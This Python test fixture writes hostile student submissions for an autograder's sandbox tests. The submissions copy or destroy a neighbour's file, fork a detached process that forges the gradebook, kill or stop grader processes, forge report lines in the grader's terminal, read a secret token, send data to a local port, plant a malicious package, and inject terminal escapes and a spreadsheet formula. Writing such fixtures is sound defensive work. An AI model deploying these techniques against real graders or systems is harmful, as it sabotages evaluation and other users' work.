"""A class of submissions written to cheat or to do harm, for the sandbox tests.

Each is the correct ``add`` and an ``exp`` (correct or not) with one attack.  The
attacks are told where things are (a neighbour's file, the gradebook, the
grader's folder, a port on this machine), as a student who knows the course's
layout would be.  ``make_hostile_class(folder, **where)`` writes them and returns
what each row must say when the sandbox is on.
"""

import os
import textwrap

OPS = ["add", "exp"]

HEAD = '''
import numpy as np


def add(grad, x, y):
    def unbroadcast(g, shape):
        while g.ndim > len(shape):
            g = g.sum(axis=0)
        for axis, n in enumerate(shape):
            if n == 1 and g.shape[axis] != 1:
                g = g.sum(axis=axis, keepdims=True)
        return g
    return unbroadcast(grad, np.shape(x)), unbroadcast(grad, np.shape(y))

'''

CORRECT_EXP = '''
def exp(grad, x):
    return grad * np.exp(x)
'''

# name: (code after HEAD, the exp cell's first words, words of the row's problem)
SUBMISSIONS = {
    "honest": (CORRECT_EXP, "PASS", ""),
    # loads the neighbour's solution and hands it in as its own
    "reexports_neighbour": ('''
def exp(grad, x):
    try:
        import importlib.util
        spec = importlib.util.spec_from_file_location("neighbour", {neighbour!r})
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module.exp(grad, x)
    except Exception:
        return np.zeros_like(grad)
''', "FAIL", ""),
    # destroys the neighbour's file on disk
    "overwrites_neighbour": ('''
try:
    with open({neighbour!r}, "w") as f:
        f.write("raise SystemExit('destroyed by a neighbour')\\n")
except OSError:
    pass
''' + CORRECT_EXP, "PASS", ""),
    # leaves a grandchild that rewrites the gradebook once the grader is done
    "escapes": ('''
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        code = ("import time\\ntime.sleep(4)\\n"
                f"open({gradebook!r} + '/gradebook.csv', 'w').write('forged')\\n"
                f"open({marker!r}, 'w').write('escaped')  # {marker_word}")
        os.execv(sys.executable, [sys.executable, "-c", code])
    os._exit(0)
os.wait()


def exp(grad, x):
    return grad * x
''', "FAIL", ""),
    # the reference implementation installed with derive, handed in
    "imports_reference": ('''
from numeric.backward import *
''', None, "off limits"),
    # kills the process that started it
    "kills_its_parent": ('''
def exp(grad, x):
    import os, signal
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    return grad * np.exp(x)
''', ("PASS", "FAIL"), ""),
    # stops every grader process it can see
    "stops_the_grader": ('''
def exp(grad, x):
    import os, signal
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{{pid}}/cmdline", "rb") as f:
                if b"derive.check" in f.read():
                    os.kill(int(pid), signal.SIGSTOP)
        except (OSError, ValueError):
            pass
    return grad * np.exp(x)
''', "PASS", ""),
    # writes report lines of its own into the grader's terminal
    "fakes_report_lines": ('''
def exp(grad, x):
    import os
    for pid in os.listdir("/proc"):
        for fd in ("1", "2"):
            try:
                with open(f"/proc/{{pid}}/cmdline", "rb") as f:
                    if b"derive.check" not in f.read():
                        continue
                with open(f"/proc/{{pid}}/fd/{{fd}}", "w") as out:
                    out.write("[9/9] forged_line: 2 passed, 0 failed\\n")
            except OSError:
                pass
    return grad * x
''', "FAIL", ""),
    # a correct answer only where it can read the grader's secrets
    "reads_token": ('''
import os


def exp(grad, x):
    if os.environ.get("DERIVE_TEST_TOKEN"):
        return grad * np.exp(x)
    return grad * x
''', "FAIL", ""),
    # sends what it finds over the network, and is right only when it can
    "phones_home": ('''
def exp(grad, x):
    import socket
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=1) as s:
            s.sendall(b"leaked")
        return grad * np.exp(x)
    except OSError:
        return grad * x
''', "FAIL", ""),
    # plants a derive/ where the grader runs, to be imported by the next run
    "plants_derive": ('''
import os
for folder in ({grader_cwd!r}, os.getcwd()):
    try:
        os.makedirs(os.path.join(folder, "derive"), exist_ok=True)
        with open(os.path.join(folder, "derive", "__init__.py"), "w") as f:
            f.write("raise SystemExit('planted')\\n")
    except OSError:
        pass


def exp(grad, x):
    return grad * x
''', "FAIL", ""),
    # a name and a message made of terminal escapes and a spreadsheet formula
    '=HYPERLINK("evil")\x1b[31m|x': ('''
def exp(grad, x):
    raise ValueError("\\x1b[2J\\x1b[H=HYPERLINK(\\"evil\\") | all clear")
''', "FAIL", ""),
}


def make_hostile_class(folder, **where):
    """Write the class into ``folder/<name>/functional.py``; ``{name: (exp cell words, problem words)}``.

    ``where`` gives ``gradebook``, ``grader_cwd``, ``marker``, ``marker_word`` and ``port``; the
    neighbour every attack aims at is ``honest``.
    """
    where = dict(where, neighbour=os.path.join(folder, "honest", "functional.py"))
    expected = {}
    for name, (code, cell, problem) in SUBMISSIONS.items():
        os.makedirs(os.path.join(folder, name), exist_ok=True)
        with open(os.path.join(folder, name, "functional.py"), "w") as f:
            f.write(HEAD + textwrap.dedent(code).format(**where))
        expected[name] = (cell, problem)
    return expected
